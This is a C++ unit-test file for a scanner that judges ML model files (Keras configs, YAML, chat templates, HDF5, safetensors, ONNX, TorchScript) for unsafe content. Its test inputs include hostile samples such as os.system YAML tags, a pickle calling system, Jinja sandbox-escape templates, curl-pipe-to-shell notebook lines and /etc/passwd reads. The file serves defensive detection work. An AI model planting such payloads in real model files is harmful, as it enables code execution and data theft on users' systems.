// SPDX-License-Identifier: Apache-2.0
#include "scan/models/document_judge.h"

#include <algorithm>
#include <gtest/gtest.h>

#include "scan/models/model_scanner.h"

namespace vedette::scan::models {
namespace {

using event::Level;

std::vector<event::Finding> found(std::string_view path, const std::string& bytes) {
  static const ModelRules kRules;
  std::vector<event::Finding> findings;
  ModelScanner(kRules).scan(path, bytes, findings);
  return findings;
}

Level worst(std::string_view path, const std::string& bytes) {
  Level level = Level::kInformational;
  for (const event::Finding& finding : found(path, bytes))
    level = std::max(level, finding.severity);
  return level;
}

std::string number(std::uint64_t value, std::size_t size) {
  std::string bytes;
  for (; size > 0; --size, value >>= 8) bytes += static_cast<char>(value & 0xFF);
  return bytes;
}

TEST(DocumentJudge, FindsCodeInKeras) {
  EXPECT_EQ(worst("config.json", R"({"class_name":"Functional","config":{"layers":[
      {"class_name":"Lambda","config":{"function":{"class_name":"__lambda__","config":{}}}}]}})"),
            Level::kCritical);
  EXPECT_EQ(
      worst("config.json", R"({"module":"builtins","class_name":"function","config":"exec"})"),
      Level::kCritical);
  EXPECT_GE(worst("config.json",
                  R"({"module":"keras.utils","class_name":"function","config":"get_file"})"),
            Level::kHigh);
  EXPECT_EQ(worst("config.json",
                  R"({"module":"tensorflow.io","class_name":"function","config":"write_file"})"),
            Level::kCritical);
  EXPECT_EQ(
      worst("config.json", R"({"module":"tensorflow.nn","class_name":"function","config":"relu"})"),
      Level::kInformational);
  EXPECT_EQ(worst("config.json",
                  R"({"module":"keras.layers","class_name":"Dense","config":{"units":3}})"),
            Level::kInformational);
}

TEST(DocumentJudge, ManyFindingsHideNoneOfAnotherKind) {
  std::string many = R"([{"module":"builtins","class_name":"function","config":"exec"})";
  for (int i = 0; i < 100; ++i) {
    many += R"(,{"module":"keras.utils","class_name":"function","config":"get_file)" +
            std::to_string(i) + R"("})";
  }
  EXPECT_EQ(worst("config.json", many + "]"), Level::kCritical);
}

TEST(DocumentJudge, TellsWhatYamlCallsFromWhatItNames) {
  EXPECT_EQ(worst("conda.yaml", "a: !!python/object/apply:os.system [id]\n"), Level::kCritical);
  EXPECT_EQ(worst("conda.yaml", "a: !!python/name:os.system\nb: !!python/object/new:type [x]\n"),
            Level::kCritical);
  // As mkdocs has it: a module is imported, nothing is called.
  const auto named = found("mkdocs.yml", "emoji_index: !!python/name:material.emoji.twemoji\n");
  ASSERT_EQ(named.size(), 1U);
  EXPECT_EQ(named[0].severity, Level::kInformational);
}

TEST(DocumentJudge, ReadsTemplates) {
  EXPECT_EQ(worst("tokenizer_config.json",
                  R"({"chat_template":"{% for x in ().__class__.__base__ %}{% endfor %}"})"),
            Level::kCritical);
  EXPECT_EQ(worst("chat.jinja", "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"), Level::kCritical);
  EXPECT_EQ(
      worst(
          "tokenizer_config.json",
          R"({"chat_template":"{% for m in messages %}{{ m['role'] + m.content|trim }}{% endfor %}"})"),
      Level::kInformational);
  const std::string text = "{{ cycler.__init__ }}";
  const std::string key = "tokenizer.chat_template";
  EXPECT_EQ(
      worst("a.gguf", "GGUF" + number(3, 4) + number(0, 8) + number(1, 8) + number(key.size(), 8) +
                          key + number(8, 4) + number(text.size(), 8) + text),
      Level::kCritical);
}

TEST(DocumentJudge, KnowsObjectsThatYamlMayRebuild) {
  const std::string harmless = "a: !!python/object:argparse.Namespace\n  b: 1\n";
  EXPECT_EQ(worst("hparams.yaml", harmless), Level::kInformational);
  EXPECT_EQ(worst("hparams.yaml", harmless + "c: !!python/object/apply:os.system [id]\n"),
            Level::kCritical);
  EXPECT_EQ(worst("hparams.yaml", "a: !<tag:yaml.org,2002:python/object/new:os.system> [id]\n"),
            Level::kCritical);
}

TEST(DocumentJudge, ReadsSettingsAndNotebooks) {
  EXPECT_EQ(worst("config.json", R"({"auto_map":{"AutoModel":"modeling.Own"}})"), Level::kMedium);
  EXPECT_EQ(
      worst("a.ipynb", R"({"cells":[{"cell_type":"code","source":["!curl http://a | sh\n"]}]})"),
      Level::kMedium);
  for (const char* line : {"import torch", "model.eval()", "!wget -q https://a.example/b.csv"}) {
    EXPECT_EQ(worst("a.ipynb", std::string(R"({"cells":[{"cell_type":"code","source":[")") + line +
                                   R"("]}]})"),
              Level::kInformational)
        << line;
  }
  for (const char* line : {"x = eval(y)", "!wget -q http://a.example/b", "!curl -d @b https://a"}) {
    EXPECT_EQ(worst("a.ipynb", std::string(R"({"cells":[{"cell_type":"code","source":[")") + line +
                                   R"("]}]})"),
              Level::kMedium)
        << line;
  }
  EXPECT_EQ(
      worst("a.pmml", R"(<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]><a/>)"),
      Level::kHigh);
}

TEST(DocumentJudge, ChecksSafetensors) {
  const auto file = [](const std::string& header, std::size_t bytes) {
    return number(header.size(), 8) + header + std::string(bytes, '\1');
  };
  const std::string good = R"({"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}})";
  EXPECT_EQ(worst("a.safetensors", file(good, 4)), Level::kInformational);
  EXPECT_EQ(worst("a.safetensors", file(good, 3)), Level::kMedium);
  EXPECT_EQ(worst("a.safetensors", file(good, 9)), Level::kMedium);
}

// A field of Protocol Buffers that holds bytes.
std::string field(int tag, const std::string& content) {
  return std::string(1, static_cast<char>(tag << 3 | 2)) + static_cast<char>(content.size()) +
         content;
}

TEST(DocumentJudge, ReadsGraphs) {
  const auto graph = [](const std::string& operation) {
    return field(1, field(1, "n") + field(2, operation));
  };
  const auto saved = [&](const std::string& operation) {
    return "\x08\x01" + field(2, field(2, graph(operation)));
  };
  EXPECT_EQ(worst("a.pb", graph("WriteFile")), Level::kHigh);
  EXPECT_EQ(worst("saved_model.pb", saved("PyFunc")), Level::kCritical);
  EXPECT_EQ(worst("whatever", saved("PyFunc")), Level::kCritical);
  EXPECT_EQ(worst("saved_model.pb", saved("MatMul")), Level::kInformational);
  EXPECT_EQ(worst("saved_model.pbtxt", "meta_graphs { graph_def { node { op: \"PyFunc\" } } }"),
            Level::kCritical);
  const auto onnx = [](const std::string& place) {
    return "\x08\x08" + field(7, field(5, field(13, field(1, "location") + field(2, place))));
  };
  EXPECT_EQ(worst("a.onnx", onnx("../../secret")), Level::kHigh);
  EXPECT_EQ(worst("a.onnx", onnx("data.bin")), Level::kInformational);
}

// A file of one group with these messages.
std::string hdf5(const std::string& messages) {
  return "\x89HDF\r\n\x1a\n" + number(2, 1) + number(8, 1) + number(8, 1) + number(0, 1) +
         number(0, 8) + number(~std::uint64_t{0}, 8) + number(0, 8) + number(48, 8) + number(0, 4) +
         "OHDR" + number(2, 1) + number(2, 1) + number(messages.size(), 4) + messages +
         number(0, 4);
}
std::string hdf5_message(std::uint64_t type, const std::string& body) {
  return number(type, 1) + number(body.size(), 2) + number(0, 1) + body;
}
std::string hdf5_attribute(const std::string& name, const std::string& text) {
  return hdf5_message(12, number(3, 2) + number(name.size() + 1, 2) + number(8, 2) + number(4, 2) +
                              number(0, 1) + name + number(0, 1) + number(0x13, 4) +
                              number(text.size(), 4) + number(2, 4) + text);
}

TEST(DocumentJudge, FindsADescriptionInHdf5WhereALoaderDoes) {
  const std::string lambda =
      R"({"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda",
          "config": {"rate": NaN, "function": ["4wE=", null, null]}}]}})";
  const std::string dense =
      R"({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense"}]}})";
  const std::string escaped =
      R"({"class\u005fname": "Lambda", "config": {"function": ["4wE=", null, null]}})";
  const auto half = static_cast<std::ptrdiff_t>(lambda.size() / 2);
  const std::string first(lambda.begin(), lambda.begin() + half);
  const std::string second(lambda.begin() + half, lambda.end());
  EXPECT_EQ(worst("m.h5", hdf5(hdf5_attribute("model_config", lambda))), Level::kCritical);
  EXPECT_EQ(worst("m.h5", hdf5(hdf5_attribute("model_config1", second) +
                               hdf5_attribute("model_config0", first))),
            Level::kCritical);
  EXPECT_EQ(worst("m.h5", hdf5(hdf5_attribute("model_config", escaped))), Level::kCritical);
  EXPECT_EQ(worst("m.h5", hdf5(hdf5_attribute("model_config", dense))), Level::kInformational);
  EXPECT_EQ(worst("m.h5", hdf5(hdf5_attribute("note", "as in " + lambda))), Level::kInformational);
  // Text that is nothing of the kind.
  EXPECT_EQ(worst("m.h5", hdf5(hdf5_message(0, lambda)) + lambda), Level::kInformational);
}

TEST(DocumentJudge, UnpicklesWhatPyTablesWould) {
  EXPECT_EQ(worst("m.h5", hdf5(hdf5_attribute("a", "cos\nsystem\n(S'true'\ntR."))),
            Level::kCritical);
  EXPECT_EQ(worst("m.h5", hdf5(hdf5_attribute("a", "A study\nof os.system."))),
            Level::kInformational);
}

TEST(DocumentJudge, NamesWhatKerasWouldCall) {
  const auto layer = [](std::string_view settings) {
    return R"({"class_name":"Lambda","module":"keras.layers","config":)" + std::string(settings) +
           "}";
  };
  static const ModelRules kRules;
  std::vector<event::Finding> findings;
  ModelScanner(kRules).scan(
      "config.json",
      layer(R"({"function":{"module":"keras.utils","class_name":"function","config":"get_file"},
                "arguments":{"origin":"http://a/b","extract":true}})"),
      findings);
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].redacted, R"(keras.utils.get_file(origin="http://a/b", extract=true))");
  // Names of the code are named: "os" and "system" in what is marshalled.
  findings.clear();
  ModelScanner(kRules).scan("config.json",
                            layer(R"({"function":{"class_name":"__lambda__","config":{"code":
                "2gJvc9oGc3lzdGVt"}}})"),
                            findings);
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].redacted, "Lambda(os, system)");
  findings.clear();
  ModelScanner(kRules).scan("config.json",
                            R"({"class_name":"Own","module":null,"registered_name":"mine>Own"})",
                            findings);
  ASSERT_EQ(findings.size(), 1U);
  EXPECT_EQ(findings[0].redacted, "mine>Own");
  EXPECT_EQ(worst("config.json", layer(R"({"vocabulary":"/etc/passwd"})")), Level::kHigh);
  EXPECT_EQ(worst("config.json", layer(R"({"vocabulary":"words.txt"})")), Level::kInformational);
}

TEST(DocumentJudge, NamesFilesThatHdf5Opens) {
  const std::string link = number(1, 1) + number(8, 1) + number(64, 1) + number(1, 1) + "a" +
                           number(7, 2) + number(0, 1) + "../b" + number(0, 1) + number(0, 1);
  const std::string message = number(6, 1) + number(link.size(), 2) + number(0, 1) + link;
  const std::string file = "\x89HDF\r\n\x1a\n" + number(2, 1) + number(8, 1) + number(8, 1) +
                           number(0, 25) + number(48, 8) + number(0, 4) + "OHDR" + number(2, 1) +
                           number(0, 1) + number(message.size(), 1) + message + number(0, 4);
  EXPECT_EQ(worst("m.weights.h5", file), Level::kHigh);
  EXPECT_EQ(worst("m.h5", std::string(512, 'x') + file), Level::kHigh);
}

TEST(DocumentJudge, JudgesTorchScriptByItsCalls) {
  const auto judge = [](std::string_view line) {
    return worst("m/code/__torch__/m.py",
                 "class M(Module):\n  def forward(self, x):\n    " + std::string(line) + "\n");
  };
  EXPECT_EQ(judge("ops.aten.save(x, \"/tmp/x\")"), Level::kHigh);
  EXPECT_EQ(judge("y = torch.ops.image.read_file(\"/etc/passwd\")"), Level::kHigh);
  EXPECT_EQ(judge("print(\"torch.save(\")  # torch.save(x)"), Level::kInformational);
  EXPECT_EQ(judge("(self.inner).save(x)"), Level::kInformational);
}

TEST(DocumentJudge, SaysWhereAGraphIsTooLarge) {
  static const ModelRules kRules;
  ModelScanner scanner(kRules);
  std::vector<event::Finding> findings;
  std::string graph = field(1, field(1, "n") + field(2, "Const"));
  for (std::size_t i = 0; i < kGraphMessagesMax; ++i) graph += std::string_view("\x0A\0", 2);
  scanner.scan("saved_model.pb", graph, findings);
  ASSERT_EQ(scanner.losses().size(), 1U);
  scanner.scan("saved_model.pb", "x", findings);
  EXPECT_TRUE(scanner.losses().empty());
}

}  // namespace
}  // namespace vedette::scan::models
